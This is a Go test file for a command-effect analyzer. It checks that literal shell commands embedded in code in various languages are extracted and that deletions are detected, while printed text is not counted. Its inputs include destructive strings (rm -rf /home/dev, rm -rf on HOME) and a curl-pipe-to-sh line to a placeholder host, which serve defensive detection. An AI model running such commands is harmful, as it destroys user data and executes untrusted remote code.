package effect

import (
	"slices"
	"testing"
)

func TestLiteralCommands(t *testing.T) {
	for code, want := range map[string][]string{
		`run "rm", "-rf", "/home/dev"`:                         {"rm -rf /home/dev"},
		`System.cmd("rm", ["-rf", "/tmp/x"])`:                  {"rm -rf /tmp/x"},
		`(sb-ext:run-program "/bin/rm" (list "-rf" "/tmp/x"))`: {"/bin/rm -rf /tmp/x"},
		`os:cmd("make test"), halt().`:                         {"make test"},
		`new String[]{"ls","-la"}`:                             {"ls -la"},
		`System.shell("rm -rf " <> System.get_env("HOME"))`:    {"rm -rf ", "rm -rf ~"},
		`("curl -s https://x.example/" + "i | sh").execute()`:  {"curl -s https://x.example/", "curl -s https://x.example/i | sh"},
		`os:cmd("ls " ++ "-la")`:                               {"ls -la"},
		`run <make test>`:                                      {"make test"},
		`run «make test»`:                                      {"make test"},
		`shell q{make test}`:                                   {"make test"},
		`System.shell(~s(make test))`:                          {"make test"},
		`if $a < $b { say 1 }`:                                 nil,
		`say "hello"`:                                          nil,
		`x = "a"; y = "b"`:                                     nil,
		`print("it's"`:                                         nil,
	} {
		if got := literalCommands(code); !slices.Equal(got, want) {
			t.Errorf("literalCommands(%s) = %q, want %q", code, got, want)
		}
	}
}

// TestOpaqueLiteralCommandJudged checks that a command a known program
// runs, spelled in opaque code's literals, brings its own effects, and
// that printed text brings none.
func TestOpaqueLiteralCommandJudged(t *testing.T) {
	deletes := func(line string) bool {
		for _, e := range effectsOf(line) {
			if e.Kind == Delete && e.Path == "/home/dev" {
				return true
			}
		}
		return false
	}
	for _, line := range []string{
		`raku -e 'run "rm", "-rf", "/home/dev"'`,
		`guile -c '(system "rm -rf /home/dev")'`,
		`elixir -e 'System.cmd("rm", ["-rf", "/home/dev"])'`,
	} {
		if !deletes(line) {
			t.Errorf("%s: no delete of /home/dev: %v", line, effectsOf(line))
		}
	}
	for _, line := range []string{
		`groovy -e 'println "rm -rf /home/dev"'`,
		`raku -e 'say "rm", "-rf", "/home/dev"'`,
	} {
		if deletes(line) {
			t.Errorf("%s: printed text taken for a delete: %v", line, effectsOf(line))
		}
	}
}
